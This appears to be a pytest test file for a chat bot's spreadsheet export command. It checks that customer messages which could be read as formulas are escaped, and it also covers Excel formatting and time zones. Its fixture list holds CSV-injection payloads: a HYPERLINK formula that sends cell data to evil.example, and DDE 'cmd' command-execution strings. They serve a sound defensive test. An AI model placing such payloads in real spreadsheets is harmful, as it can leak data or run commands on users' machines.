"""`nudge export` for a spreadsheet: a customer's message that a spreadsheet would evaluate
(=, +, -, @, a tab or a carriage return first) is written as text; `--excel` adds the UTF-8
byte order mark Excel needs to read £ and emoji, headers in words, times in the team's zone
and JSON written out as text, while `--csv` and `--json` stay as stored, for machines."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner

from bot.cli import cli
from bot.core.types import Request
from bot.store import iso
from handlers import conversation

FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Click for your refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def no_tokens(monkeypatch):
    for name in ("SLACK_BOT_TOKEN", "SLACK_APP_TOKEN", "DISCORD_TOKEN", "NUDGE_CONFIG"):
        monkeypatch.delenv(name, raising=False)


def said(ctx, texts):
    for n, text in enumerate(texts):
        conversation.record_message(Request(platform="slack", text=text, user=f"U{n}",
                                            channel="C1", thread=f"{n}.1", message_id=f"{n}.2",
                                            workspace="T1"), ctx)


def export(config_file, *args) -> bytes:
    result = CliRunner().invoke(cli, ["--config", str(config_file), "export", *args])
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def test_cells_a_spreadsheet_would_evaluate_are_written_as_text(ctx, config_file):
    said(ctx, [*FORMULAS, "Two £12 boxes 🍰 please", "-5 degrees out, still open?"])
    exported = export(config_file, "messages", "--csv").decode()
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    texts = [row["text"] for row in rows]
    stored = [row["text"] for row in ctx.db["messages"].rows]
    for text in stored[:len(FORMULAS)]:
        assert "'" + text in texts  # a leading apostrophe: the spreadsheet shows it as text
    assert not [text for text in texts if text[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "Two £12 boxes 🍰 please" in texts  # ordinary words untouched
    ids = [row["id"] for row in rows]
    assert ids == [str(n) for n in range(1, len(FORMULAS) + 3)]  # numbers stay numbers


def test_excel_gets_a_byte_order_mark_and_headers_in_words(ctx, config_file):
    said(ctx, ["Two £12 boxes 🍰 please", FORMULAS[0]])
    data = export(config_file, "messages", "--excel")
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    header = text.split("\r\n")[0]
    assert header.startswith("ID,Conversation ID,Platform,")
    assert "Text" in header.split(",") and "Created at (Europe/London)" in header.split(",")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["Text"] == "Two £12 boxes 🍰 please"
    assert rows[1]["Text"] == "'" + FORMULAS[0]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@A1", "\t=1", "\r=1"])
def test_every_character_that_starts_a_formula_is_neutralised(value):
    from bot.cli.results import spreadsheet_cell

    assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("12 boxes") == "12 boxes"


def promotion_row(ctx) -> None:
    """A promotion as Nudge stores one: JSON targets, trigger and wordings, UTC times (22 Nov
    is winter in London, 1 Jul summer: the export must follow the clock change)."""
    ctx.db["promotions"].insert({
        "id": 4, "text": "=cmd", "status": "active", "runs": 0, "timezone": "Europe/London",
        "targets": json.dumps([{"platform": "slack", "channel": "C1"},
                               {"platform": "discord", "channel": "555"}]),
        "trigger": json.dumps({"kind": "weekly", "days": ["fri"], "time": "09:00"}),
        "variants": json.dumps(["Fresh loaves!", "Warm buns!"]),
        "created_at": iso(datetime(2026, 11, 22, 23, 30, tzinfo=UTC)),
        "next_run_at": iso(datetime(2026, 7, 1, 8, 0, tzinfo=UTC))})


def test_excel_writes_local_times_and_json_as_words(ctx, config_file):
    promotion_row(ctx)
    text = export(config_file, "promotions", "--excel").decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["Created at (Europe/London)"] == "2026-11-22 23:30"  # GMT in November
    assert row["Next run at (Europe/London)"] == "2026-07-01 09:00"  # BST in July
    assert row["Targets"] == "platform: slack, channel: C1; platform: discord, channel: 555"
    assert row["Trigger"] == "kind: weekly, days: fri, time: 09:00"
    assert row["Variants"] == "Fresh loaves!; Warm buns!"
    assert row["Text"] == "'=cmd"  # the formula guard still applies
    assert not [cell for cell in row.values() if cell.startswith(("[", "{"))]


def test_the_machine_exports_stay_as_stored(ctx, config_file):
    promotion_row(ctx)
    [row] = list(csv.DictReader(io.StringIO(export(config_file, "promotions").decode(),
                                            newline="")))
    stored = ctx.db["promotions"].get(4)
    assert not export(config_file, "promotions").startswith("\ufeff".encode())
    assert "created_at" in row and row["created_at"] == stored["created_at"]
    assert row["created_at"].startswith("2026-11-22T23:30:00")
    assert row["targets"] == stored["targets"] and json.loads(row["targets"])[1]["channel"]
    [line] = export(config_file, "promotions", "--json").decode().splitlines()
    assert json.loads(line)["targets"] == stored["targets"]


def test_a_customer_s_words_are_never_reread_as_json_or_times(ctx, config_file):
    said(ctx, ['["not", "json"]', "2026-11-22T10:00:00+00:00"])
    text = export(config_file, "messages", "--excel").decode("utf-8-sig")
    texts = [row["Text"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert texts == ['["not", "json"]', "2026-11-22T10:00:00+00:00"]
